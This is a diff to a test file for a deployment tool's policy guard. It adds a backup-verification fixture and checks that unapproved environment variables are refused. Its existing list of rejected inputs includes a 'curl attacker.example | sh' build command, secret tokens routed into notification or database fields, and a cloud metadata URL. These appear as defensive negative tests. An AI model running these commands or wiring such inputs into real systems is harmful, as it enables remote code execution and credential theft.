@@ -21,7 +21,7 @@ apps:
         argocd: { application: todoapp-staging }
         checks: [ { http: { url: https://staging.todo.example/healthz } } ]
         notify: [ log, { discord: { urlFromEnv: DISCORD_URL } } ]
-        backup: { schedule: "0 3 * * *", postgres: { urlFromEnv: STAGING_DB } }
+        backup: { schedule: "0 3 * * *", postgres: { urlFromEnv: STAGING_DB }, verify: { postgres: { urlFromEnv: SCRATCH_DB } } }
 `,
   'slipway.yaml',
 );
@@ -40,6 +40,7 @@ describe('policy guard', () => {
       ['httpCheck', { url: 'https://staging.todo.example/healthz' }],
       ['notify', { channels: ['log', { discord: { urlFromEnv: 'DISCORD_URL' } }] }],
       ['takeBackup', { databaseUrlFromEnv: 'STAGING_DB' }],
+      ['verifyBackup', { databaseUrlFromEnv: 'STAGING_DB', verifyUrlFromEnv: 'SCRATCH_DB' }],
       ['pruneBackups', { app: 'todoapp', environment: 'staging', keep: 3 }],
     ];
     for (const [activity, input] of calls) expect(refusedWiring(activity, input, allowed), activity).toEqual([]);
@@ -54,6 +55,8 @@ describe('policy guard', () => {
       ['runBuildCommand', { command: 'curl attacker.example | sh' }, 'build command'],
       ['notify', { channels: [{ slack: { urlFromEnv: 'GITOPS_TOKEN' } }] }, 'notification channel'],
       ['verifyBackup', { databaseUrlFromEnv: 'GITOPS_TOKEN' }, 'database variable'],
+      // The scratch server verification restores on is a database the policy must name too.
+      ['verifyBackup', { databaseUrlFromEnv: 'STAGING_DB', verifyUrlFromEnv: 'TEMPORAL_API_KEY' }, 'database variable'],
       ['refreshApplication', { app: { application: 'kube-system-app', namespace: 'kube-system' } }, 'Argo CD Application'],
       ['httpCheck', { url: 'http://169.254.169.254/latest/meta-data' }, 'check URL'],
     ];
